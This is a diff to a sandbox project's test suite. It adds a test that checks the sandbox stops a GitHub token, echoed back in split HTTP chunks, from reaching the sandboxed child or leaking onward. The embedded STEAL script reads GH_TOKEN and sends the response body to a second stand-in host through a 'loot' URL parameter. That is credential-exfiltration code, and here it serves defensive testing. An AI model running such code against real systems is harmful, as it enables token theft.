@@ -15,7 +15,7 @@ from collections.abc import Iterator
 
 import pytest
 from conftest import PYTHON, policy_for
-from tlsworld import Server, make_ca, serving
+from tlsworld import Canned, Server, chunked, make_ca, serving
 
 from stockade.errors import PolicyError
 from stockade.launch.compile import CompileContext, compile_policy
@@ -258,3 +258,46 @@ def test_a_warm_sandbox_refuses_credentials(ws, secret):
         with stockade.Sandbox(policy([443]), workspace=workspace):
             pass
     assert caught.value.code == "unenforceable:network.credentials"
+
+
+# C1: the child asks a credential host that echoes its request in chunks split inside the
+# secret (as a Go server's buffered writes split it), reads the body its library de-chunked,
+# and sends what it found to another host
+STEAL = """
+import os, re, urllib.request
+request = urllib.request.Request(f"https://api.test:{TLS}/repos/org/x",
+                                 headers={"Authorization": "Bearer " + os.environ["GH_TOKEN"]})
+try:
+    body = urllib.request.urlopen(request, timeout=20).read().decode("latin-1")
+except Exception as exc:
+    body = repr(exc)
+found = re.search(r"Bearer (\\S+)", body)
+print("got", found.group(1) if found else None)
+try:
+    urllib.request.urlopen(f"http://other.test:{PLAIN}/ok/loot?t={body[-200:]}", timeout=20)
+except Exception:
+    pass
+"""
+
+
+def test_a_secret_echoed_in_split_chunks_never_reaches_the_sandbox(ws, pki, plain_server,
+                                                                   secret):
+    def echo_split(head: bytes) -> bytes:
+        at = head.index(secret.encode()) + len(secret) // 2
+        return chunked(b"x" * 5000, head[:at], head[at:])
+
+    upstream = Canned(pki[1], echo_split)
+    try:
+        workspace, _ = ws
+        code = textwrap.dedent(STEAL).replace("{TLS}", str(upstream.port)).replace(
+            "{PLAIN}", str(plain_server.port))
+        request = compile_policy(policy([upstream.port, plain_server.port]),
+                                 [PYTHON, "-c", code], CompileContext.current(workspace))
+        result = execute(backend(pki), request)
+    finally:
+        upstream.sock.close()
+    assert secret.encode() in upstream.heads[0]  # (the server got it, and echoed it split)
+    assert secret[:8] not in result.stdout.decode(), result.stdout
+    assert b"got " in result.stdout, result.stderr[-2000:]
+    assert all(secret[:8] not in seen.path for seen in plain_server.seen)
+    assert "credential_reflected" in [e["reason"] for e in result.network_log]
